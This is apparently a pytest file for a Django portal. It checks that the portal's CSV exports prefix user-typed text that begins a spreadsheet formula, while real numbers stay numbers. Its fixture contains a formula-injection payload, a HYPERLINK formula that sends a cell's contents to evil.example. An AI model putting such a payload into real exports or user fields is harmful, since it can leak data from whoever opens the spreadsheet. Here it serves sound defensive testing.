"""Text that people typed reaches the CSV exports as text, never as a live spreadsheet formula;
the numbers we write (coordinates, ids, distances) stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django_tenants.utils import schema_context

from portal.department.models import Incident
from portal.registry.csv_safe import cell_neutralise
from portal.registry.models import Site
from tests.conftest import incident_post_data

pytestmark = pytest.mark.django_db

ADDRESS = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
LABEL = "@SUM(1)"


@pytest.fixture
def mallory(make_resident, site_data):
    """A resident whose address and camera label are formulas."""
    resident = make_resident("concord", email="mallory@example.org")
    response = resident.client.post(
        "/register/", site_data(address=ADDRESS, **{"cameras-0-label": LABEL})
    )
    assert response.status_code == 302
    return resident


def csv_rows(response) -> list[dict[str, str]]:
    content = (
        b"".join(response.streaming_content)
        if hasattr(response, "streaming_content")
        else response.content
    )
    return list(csv.DictReader(io.StringIO(content.decode())))


def open_incident(admin, **overrides: str) -> Incident:
    response = admin.client.post(
        "/department/incidents/",
        incident_post_data() | overrides,
    )
    assert response.status_code == 302
    with schema_context("concord"):
        return Incident.objects.latest("pk")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1 704 555 0142", "'+1 704 555 0142"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("77 Union St S", "77 Union St S"),
        ("", ""),
        (-80.581, -80.581),
        (-3, -3),
        (None, None),
    ],
)
def test_only_text_that_starts_a_formula_is_neutralised(value, written):
    assert cell_neutralise(value) == written


def test_the_registry_export_neutralises_an_address_and_a_camera_label(mallory, admin):
    rows = csv_rows(admin.client.get("/department/registry.csv"))
    (row,) = rows
    assert row["address"] == "'" + ADDRESS
    assert row["camera_label"] == "'@SUM(1)"
    # Our own numbers are data: a negative longitude stays a number a spreadsheet can sum.
    assert row["longitude"] == "-80.581"
    assert row["latitude"] == "35.408"
    with schema_context("concord"):
        assert row["site_ref"] == str(Site.objects.get().pk)


def test_the_canvass_export_neutralises_the_address_and_the_notes(mallory, admin):
    incident = open_incident(admin)
    with schema_context("concord"):
        site = Site.objects.get()
    admin.client.post(
        f"/department/incidents/{incident.pk}/sites/{site.pk}/state/",
        {"state": "contacted", "notes": "-called, +1 callback"},
    )
    (row,) = csv_rows(admin.client.get(f"/department/incidents/{incident.pk}/canvass.csv"))
    assert row["address"] == "'" + ADDRESS
    assert row["notes"] == "'-called, +1 callback"
    assert row["number"] == "1"
    assert row["distance_m"] == "0"


def test_the_audit_export_neutralises_notes_and_case_numbers(mallory, admin):
    incident = open_incident(admin, case_number="=CPD+1")
    with schema_context("concord"):
        site = Site.objects.get()
    response = admin.client.post(
        f"/department/incidents/{incident.pk}/sites/{site.pk}/reveal/",
        {"note": "@SUM(1) canvass for the case"},
        REMOTE_ADDR="10.1.2.3",
    )
    assert response.status_code == 200
    rows = csv_rows(admin.client.get("/department/audit.csv"))
    reveal = next(row for row in rows if row["action"] == "reveal")
    assert reveal["note"] == "'@SUM(1) canvass for the case"
    assert reveal["case"] == "'=CPD+1"
    assert reveal["site"] == str(site.pk)
    assert reveal["ip_address"] == "10.1.2.3"
    assert reveal["actor"] == "administrator@concord.example.org"
